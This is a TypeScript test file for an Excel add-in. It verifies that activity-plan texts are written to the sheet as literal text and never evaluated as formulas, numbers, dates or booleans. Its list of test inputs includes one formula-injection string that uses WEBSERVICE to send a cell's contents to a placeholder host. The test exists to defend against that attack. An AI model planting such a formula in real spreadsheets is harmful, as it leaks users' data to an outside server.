import { afterEach, describe, expect, it } from 'vitest';
import { literalInput } from '../../../addin/excel/sheet/literal-cells.js';
import { rowsOf, setCell } from '../../../shared/doc/index.js';
import { docWith, openSide, type Side } from './helpers.js';

const SHEET = 'plan-test';
const sides: Side[] = [];
afterEach(async () => {
  for (const side of sides.splice(0)) await side.binding.dispose();
});

/** Texts Excel reads as something else when written as typed. */
const TEXTS = ['=1+1', '=WEBSERVICE("https://example.invalid/?"&A1)', "'citat'", '2025-03-01', '007', 'TRUE', 'sant', '+46 70', '@hem', '-', '1/2'];

const titles = (side: Side) => side.host.readTable(side.binding.tableName).rows.map((r) => r[1]);

describe('texts stay texts in the sheet', () => {
  it('shows every stored text as written, never as a formula, number, date or boolean', async () => {
    const doc = docWith('activity-plan', TEXTS.map((t) => ({ title: t, type: 'halsodag' })));
    const side = await openSide(doc, 'activity-plan');
    sides.push(side);
    await side.settle();
    expect(titles(side)).toEqual(TEXTS);
    // A remote edit and a remote new row are written the same way.
    const id = rowsOf(doc)[0]!.id;
    setCell(doc, id, 'title', '=2*21');
    await side.settle();
    expect(titles(side)[0]).toBe('=2*21');
  });

  it('loses none of them when the person edits the rows and the pane is opened again', async () => {
    const doc = docWith('activity-plan', TEXTS.map((t) => ({ title: t, type: 'halsodag', responsible: t })));
    const side = await openSide(doc, 'activity-plan');
    await side.settle();
    for (let i = 0; i < TEXTS.length; i++) side.host.user.type(SHEET, `C${i + 2}`, 'Hälsodagar/öppet hus med hälsoinformation och provtagning');
    await side.settle();
    await side.binding.dispose();
    const reopened = await openSide(doc, 'activity-plan', {}, side.host);
    sides.push(reopened);
    await reopened.settle();
    await reopened.settle();
    expect(rowsOf(doc).map((r) => r.values.title)).toEqual(TEXTS);
    expect(rowsOf(doc).map((r) => r.values.responsible)).toEqual(TEXTS);
    expect(reopened.binding.problems.filter((p) => p.code === 'conflict' || p.code === 'type')).toEqual([]);
  });

  it('writes plain texts, numbers and text-formatted cells as they are', () => {
    expect(literalInput('Hälsodag i Tensta', 'General')).toBe('Hälsodag i Tensta');
    expect(literalInput(7, 'General')).toBe(7);
    expect(literalInput('=1+1', '@')).toBe('=1+1');
    expect(literalInput('=1+1', 'General')).toBe("'=1+1");
    expect(literalInput('2025-03-01', 'yyyy-mm-dd')).toBe("'2025-03-01");
  });
});
